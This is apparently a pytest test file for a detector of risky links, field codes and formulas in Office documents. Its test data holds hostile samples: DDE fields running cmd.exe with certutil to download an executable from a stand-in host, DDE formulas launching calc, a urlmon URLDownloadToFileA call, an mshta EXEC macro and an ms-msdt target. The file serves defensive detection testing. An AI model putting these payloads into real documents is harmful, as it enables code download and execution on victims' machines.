"""Targets, fields and formulas."""

from __future__ import annotations

import pytest

from sabaki.files import officelinks
from sabaki.files.opened import Opened
from tests.files.office import links, traits


@pytest.mark.parametrize(
    "target",
    [
        "http://a.example/t.dotm", "HTTPS://a.example", "\\\\192.0.2.1\\share\\t.dotm", "//a.example/t.dotm",
        "file://a.example/share/t.dotm", "file:///\\\\192.0.2.1\\t.dotm", "mhtml:http://a.example/x!x-usc:http://a.example/x",
        "ms-msdt:/id PCWDiagnostic", "ftp://a.example/t",
    ],
)  # fmt: skip
def test_remote(target: str) -> None:
    assert officelinks.is_remote(target)


@pytest.mark.parametrize(
    "target",
    [
        "Normal.dotm", "file:///C:\\Users\\a\\Normal.dotm", "C:\\t.dotm", "file:///c|/t.dotm", "../media/image1.png",
        "mailto:a@example.jp", "media/a:b.png", "", "\\\\?\\C:\\x", "file:t.dotm",
    ],
)  # fmt: skip
def test_local(target: str) -> None:
    assert not officelinks.is_remote(target)


def field(code: str, text: str = "") -> Opened:
    opened = Opened()
    officelinks.field(opened, code, text)
    return opened


@pytest.mark.parametrize(
    ("code", "target"),
    [
        (' HYPERLINK "https://a.example/x" ', "https://a.example/x"),
        ('HYPERLINK "https://a.example/x" \\l "top" \\o "tip"', "https://a.example/x#top"),
        ('HYPERLINK \\t "_blank" https://a.example/x', "https://a.example/x"),
        ('hyperlink "file:///C:\\\\a\\\\b.exe"', "file:///C:\\a\\b.exe"),
        ("HYPERLINK \u201chttps://a.example/x\u201d", "https://a.example/x"),
    ],
)
def test_hyperlink_field(code: str, target: str) -> None:
    opened = field(code, "shown")
    assert links(opened) == [target]
    assert opened.links[0].text == "shown"
    assert opened.links[0].clickable


def test_a_hyperlink_within_the_document_is_none() -> None:
    assert field('HYPERLINK \\l "_Toc1"').links == []


@pytest.mark.parametrize("name", ["DDE", "DDEAUTO", "ddeauto"])
def test_dde_field(name: str) -> None:
    opened = field(f'{name} c:\\\\windows\\\\system32\\\\cmd.exe "/k  certutil -urlcache http://a.example/p.exe"')
    assert traits(opened, "dde")[0].startswith(f"{name} c:")
    assert links(opened) == ["http://a.example/p.exe"]
    assert not opened.links[0].clickable


@pytest.mark.parametrize("name", ["INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "INCLUDE"])
def test_fields_that_fetch(name: str) -> None:
    opened = field(f'{name} "http://a.example/1.png" \\d')
    assert traits(opened, "external_link") == [f"{name}: http://a.example/1.png"]
    assert not field(f'{name} "C:\\\\1.png"').traits


def test_a_share_is_a_remote_target_too() -> None:
    opened = field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\s\\\\1.png"')
    assert traits(opened, "remote_target") == ["\\\\192.0.2.1\\s\\1.png"]


def test_linked_object_field() -> None:
    opened = field('LINK Word.Document.8 "http://a.example/x.doc" "" \\a \\p')
    assert "LINK: http://a.example/x.doc" in traits(opened, "external_link")


def test_quote_gives_its_characters() -> None:
    assert officelinks.quoted("QUOTE 99 109 100 ") == "cmd"
    assert officelinks.quoted('quote "text"') == "text"
    assert officelinks.quoted("PAGE") == ""


@pytest.mark.parametrize(
    ("formula", "trait"),
    [
        ("cmd|'/c calc'!A0", "dde"),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "dde"),
        ("+cmd|'/k x''y'!A1", "dde"),
        ('DDE("cmd";"/c calc";"x")', "dde"),
        ('WEBSERVICE("http://a.example/q")', "external_link"),
        ('_xlfn.WEBSERVICE("http://a.example/"&A1)', "external_link"),
        ('IMPORTDATA("http://a.example/q")', "external_link"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/x")', "xlm_macro"),
    ],
)
def test_formulas(formula: str, trait: str) -> None:
    opened = Opened()
    officelinks.formula(opened, formula)
    assert [found.id for found in opened.traits] == [trait]


@pytest.mark.parametrize("formula", ["SUM(A1:B2)", "IF(A1|B1,1)", '"a|b"&"!"', "RECALL(A1)", "INDEX(A:A,1)", ""])
def test_ordinary_formulas(formula: str) -> None:
    opened = Opened()
    officelinks.formula(opened, formula)
    assert opened == Opened()


def test_hyperlink_formula() -> None:
    opened = Opened()
    officelinks.formula(opened, 'IF(A1,HYPERLINK("https://a.example/?a=""1""","click ""me"""),"")')
    assert links(opened) == ['https://a.example/?a="1"']
    assert opened.links[0].text == 'click "me"'


def test_macro_sheet_formula() -> None:
    opened = Opened()
    officelinks.formula(opened, 'EXEC("mshta http://a.example/x")', macro=True)
    assert traits(opened, "macro_suspicious") == ['=EXEC("mshta http://a.example/x")']
    assert links(opened) == ["http://a.example/x"]


def test_long_input_is_linear() -> None:
    for text in (
        "cmd|" * 9_000,
        "a" * 60_000 + "|",
        "'" * 60_000,
        'HYPERLINK("' * 6_000,
        "CALL(" * 9_000,
        "\\" * 60_000,
    ):
        officelinks.formula(Opened(), text)
        field("HYPERLINK " + text)
